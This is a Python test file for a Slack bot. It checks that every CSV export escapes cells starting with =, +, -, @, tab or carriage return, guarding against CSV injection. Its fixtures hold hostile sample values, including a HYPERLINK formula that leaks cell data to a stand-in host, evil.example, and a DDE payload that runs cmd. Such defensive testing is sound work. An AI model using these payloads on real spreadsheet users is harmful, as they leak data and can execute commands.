"""Every CSV the bot writes is safe to open in a spreadsheet (SPEC §3, Hostile input; OWASP CSV injection):
a text cell beginning with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, update
from sqlalchemy.orm import Session, sessionmaker

from bot.console.driver import SlackDriver
from bot.console.fakeslack import FakeSlack
from bot.features import build_registry
from bot.kernel.settings import Settings
from bot.roster_cli import export_csv
from commands.common.csv_text import FORMULA_STARTS, safe_cell, to_csv
from storage.models import Assignment, Member, Question, Rsvp
from tests.conftest import ORGANISER
from tests.factories_reports import ANNA, BEN, COACH, seed_engagement

ORGANISATION = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
ANNA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
COACH_NAME = "+Clara Coach"
TITLE = "-2+3 Cluster map"
QUESTION = "=1+1 is how we price services?"
REASON = "-ill, sorry"


@pytest.fixture
def hostile(sessions: sessionmaker[Session], fake_slack: FakeSlack, slack: SlackDriver) -> None:
    """The report's seed, with a formula in each kind of user text every export shows."""
    with sessions.begin() as session:
        seed_engagement(session, fake_slack)
        session.execute(update(Member).where(Member.slack_id == ANNA).values(name=ANNA_NAME))
        session.execute(update(Member).where(Member.slack_id == COACH).values(name=COACH_NAME))
        session.execute(update(Assignment).where(Assignment.title == "Cluster map").values(title=TITLE))
        session.execute(update(Question).where(Question.text.like("How do we price%")).values(text=QUESTION))
        ben = session.scalar(select(Member.id).where(Member.slack_id == BEN))
        session.execute(update(Rsvp).where(Rsvp.member_id == ben, Rsvp.answer == "no").values(reason=REASON))
    # The organisation comes in the way a member gives it.
    answer = slack.command(ANNA, "/cba-profile", f"set organisation {ORGANISATION}")
    assert "organisation" in answer.text.lower(), answer.text
    with sessions() as session:
        assert session.scalar(select(Member.organisation).where(Member.slack_id == ANNA)) == ORGANISATION


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe(text: str, *expected: str) -> None:
    cells = _cells(text)
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    for value in expected:
        assert "'" + value in cells, f"{value!r} not written as '{value!r}"


# Which hostile texts each export shows.
EXPECTED: dict[str, tuple[str, ...]] = {
    "directory": (ORGANISATION, ANNA_NAME, COACH_NAME),
    "bookings": (ANNA_NAME, COACH_NAME),
    "homework": (TITLE, ANNA_NAME),
    "attendance": (ANNA_NAME, REASON),
    "questions": (QUESTION, ANNA_NAME),
    "report": (ANNA_NAME,),
}


def test_every_export_kind_is_covered() -> None:
    assert set(build_registry().exporters) == set(EXPECTED)


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize("kind", list(EXPECTED))
def test_export_writes_formulas_as_text(kind: str, settings: Settings, tmp_path: Path) -> None:
    output = tmp_path / f"{kind}.csv"
    assert export_csv(settings, kind, cohort=None, output=output) == 0
    _assert_safe(output.read_text(encoding="utf-8"), *EXPECTED[kind])


@pytest.mark.usefixtures("hostile")
def test_report_csv_in_slack_writes_formulas_as_text(slack: SlackDriver, fake_slack: FakeSlack) -> None:
    slack.command(ORGANISER, "/cba-admin", "report CBA3")
    fake_slack.wait_for("files.completeUploadExternal")
    [report] = [f for f in fake_slack.files if f.filename == "cba-report-CBA3.csv"]
    text = report.content.decode()
    _assert_safe(text, ANNA_NAME)
    # Counts stay numbers a spreadsheet can sum.
    rows = list(csv.DictReader(io.StringIO(text)))
    assert all(row["check_ins"].isdigit() for row in rows)


class TestSafeCell:
    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
    def test_text_starting_a_formula_gets_a_quote(self, start: str) -> None:
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"

    @pytest.mark.parametrize("text", ["Anna", "", "1-2", " =x", "'=already", "a=b", "\u00a0-x"])
    def test_other_text_is_unchanged(self, text: str) -> None:
        assert safe_cell(text) == text

    @pytest.mark.parametrize("number", [-3, 0, 7, -1.5, Decimal("-2.50")])
    def test_numbers_stay_numbers_even_negative(self, number: Any) -> None:
        assert safe_cell(number) == number

    def test_none_is_empty_and_other_values_are_text(self) -> None:
        assert safe_cell(None) == ""
        assert safe_cell(True) == "True"

    def test_to_csv_writes_the_safe_cells(self) -> None:
        text = to_csv([("name", "n"), ("=cmd", -3), ("\r\n@x", 4)])
        assert list(csv.reader(io.StringIO(text))) == [["name", "n"], ["'=cmd", "-3"], ["'\r\n@x", "4"]]
